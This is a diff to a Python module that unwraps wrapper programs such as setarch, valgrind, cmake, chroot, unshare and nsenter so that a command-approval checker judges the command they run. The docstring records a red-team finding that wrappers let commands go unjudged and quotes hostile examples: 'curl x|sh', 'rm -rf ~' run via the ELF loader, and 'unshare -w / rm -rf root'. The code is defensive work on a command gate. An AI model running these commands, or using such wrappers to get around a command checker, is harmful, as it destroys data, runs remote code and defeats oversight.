@@ -4,8 +4,9 @@ own command line, so that the command it runs is judged like the command itself.
 A red team found these ran a command no rule judged: ``setarch x86_64 sh -c 'curl x|sh'`` was
 ``approve`` where ``sh -c 'curl x|sh'`` is denied, and so were the ELF loader run directly
 (``/lib64/ld-linux-x86-64.so.2 /bin/rm -rf ~``), ``valgrind``, ``gdb --args``, ``capsh --``
-(which hands its words to bash) and ``cmake -E env|chdir|time``. Each reader says where the
-command starts (:class:`~._unwrapped.Unwrapped`).
+(which hands its words to bash), ``cmake -E env|chdir|time`` and the chroot-like wrappers'
+working directories (``unshare -w / rm -rf root``). Each reader says where the command starts
+(:class:`~._unwrapped.Unwrapped`), and the directory it runs in when the wrapper moves it.
 """
 
 from __future__ import annotations
@@ -167,7 +168,7 @@ def _cmake(values: Values) -> Unwrapped | None:
     if mode == "time":
         return Unwrapped(2 if len(values) > 2 else None, (), why)
     if mode == "chdir" and len(values) > 3:
-        return Unwrapped(3, (), f"{why} in a directory")
+        return Unwrapped(3, (), f"{why} in a directory", directories=(values[2],))
     if mode != "env":
         return None
     index, assigned = 2, []
@@ -188,6 +189,65 @@ def _cmake(values: Values) -> Unwrapped | None:
     return Unwrapped(index if index < len(values) else None, scripts, f"{why} in an environment")
 
 
+_CHROOT = grammar("+", "groups= userspec= skip-chdir help version")
+_UNSHARE = grammar(
+    "+fhVmuinpCTUrcR:w:S:G:",
+    "help/h version/V mount=?/m uts=?/u ipc=?/i net=?/n pid=?/p user=?/U cgroup=?/C time=?/T "
+    "fork/f kill-child=? mount-proc=? map-user= map-users= map-group= map-groups= "
+    "map-root-user/r map-current-user/c map-auto propagation= setgroups= keep-caps "
+    "setuid=/S setgid=/G root=/R wd=/w monotonic= boottime=",
+)
+_NSENTER = grammar(
+    "+ahVt:m::u::i::n::p::C::U::T::S:G:r::w::W:FZ",
+    "all/a help/h version/V target=/t mount=?/m uts=?/u ipc=?/i net=?/n pid=?/p user=?/U "
+    "cgroup=?/C time=?/T setuid=/S setgid=/G preserve-credentials root=?/r wd=?/w wdns=/W "
+    "no-fork/F follow-context/Z",
+)
+"""coreutils 9's chroot and util-linux 2.38's unshare and nsenter."""
+
+
+def _chroot(values: Values) -> Unwrapped | None:
+    """``chroot DIR [CMD...]``: CMD runs in ``/`` of the new root (``--skip-chdir``: where it
+    was); with no command, ``$SHELL -i``."""
+    read = read_options(_CHROOT, values)
+    if read.given("help") or read.given("version") or read.first_operand is None:
+        return None
+    moves = () if read.given("skip-chdir") else ("/",)
+    start = read.first_operand + 1
+    why = "runs a command in another root directory"
+    if start >= len(values):
+        return Unwrapped(start, (), f"{why}: a shell", program="/bin/sh", directories=moves)
+    return Unwrapped(start, (), why, directories=moves)
+
+
+def _unshare(values: Values) -> Unwrapped | None:
+    """``unshare [options] [CMD...]``: ``-R DIR`` runs it in ``/`` of DIR, ``-w DIR`` in DIR;
+    with no command, ``$SHELL``."""
+    read = read_options(_UNSHARE, values)
+    if read.given("h") or read.given("V"):
+        return None
+    moves = ("/",) if read.given("R") else ()
+    return _namespaced(read.first_operand, len(values), moves + tuple(read.values("w")))
+
+
+def _nsenter(values: Values) -> Unwrapped | None:
+    """``nsenter [options] [CMD...]``: ``-w DIR`` runs it in DIR, ``-w`` alone in the target
+    process's directory, ``-W DIR`` in DIR of the namespace (not known here)."""
+    read = read_options(_NSENTER, values)
+    if read.given("h") or read.given("V"):
+        return None
+    moves: tuple[str | None, ...] = tuple(read.values("w"))
+    moves += (None,) if read.given("W") or (read.given("r") and not moves) else ()
+    return _namespaced(read.first_operand, len(values), moves)
+
+
+def _namespaced(start: int | None, count: int, moves: tuple[str | None, ...]) -> Unwrapped:
+    why = "runs a command in new namespaces"
+    if start is None or start >= count:
+        return Unwrapped(count, (), f"{why}: a shell", program="/bin/sh", directories=moves)
+    return Unwrapped(start, (), why, directories=moves)
+
+
 MORE_WRAPPERS: dict[str, Callable[[Values], Unwrapped | None]] = {
     "setarch": lambda v: _setarch(v, named_arch=True),
     **dict.fromkeys(
@@ -197,5 +257,8 @@ MORE_WRAPPERS: dict[str, Callable[[Values], Unwrapped | None]] = {
     "valgrind": _valgrind,
     "capsh": _capsh,
     "cmake": _cmake,
+    "chroot": _chroot,
+    "unshare": _unshare,
+    "nsenter": _nsenter,
 }
 """Readers by program name; the loader (:func:`is_loader`) is read by :func:`run_by_loader`."""
